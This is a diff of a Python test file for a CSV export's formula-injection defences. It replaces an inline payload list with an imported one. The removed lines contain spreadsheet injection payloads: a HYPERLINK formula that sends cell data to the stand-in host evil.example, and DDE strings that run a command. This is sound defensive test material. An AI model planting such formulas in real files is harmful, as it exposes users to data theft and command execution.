@@ -20,16 +20,10 @@ from logic.csv_cells import FORMULA_STARTS
 from logic.planner import plan
 from logic.storage import NotFound, Storage
 from logic.storage.schema import Base
+from strategies import FORMULA_PAYLOADS
 
 REPO = Path(__file__).resolve().parents[2]
-PAYLOADS = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3",
-    "\t=1+1",
-    "\r=1+1",
-]
+PAYLOADS = FORMULA_PAYLOADS
 # What a user can type through the app (the storage's models refuse control characters, or will).
 TYPED = PAYLOADS[:4]
 
